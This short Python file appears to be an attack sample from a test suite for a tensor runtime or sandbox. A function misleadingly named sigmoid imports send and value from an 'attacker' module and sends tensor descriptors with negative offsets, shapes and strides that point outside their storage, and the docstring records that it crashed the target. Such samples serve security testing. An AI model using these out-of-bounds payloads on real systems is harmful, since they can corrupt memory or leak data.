"""Describes tensors with negative sizes, starts and steps, that would lie before their memory.

State: crashed
Says: broke the rules
"""

from attacker import send, value


def sigmoid(x):
    start, shape, steps = {(3,): (0, [-3], [1]), (5,): (-40, [5], [1])}.get(tuple(x.shape), (0, [5], [-1]))
    block = ["block", "storage", 1_000_001, 64]
    send(value(["tensor", 1_000_001, start, shape, steps, "float64", False]), [block], bytes(64))
    return x
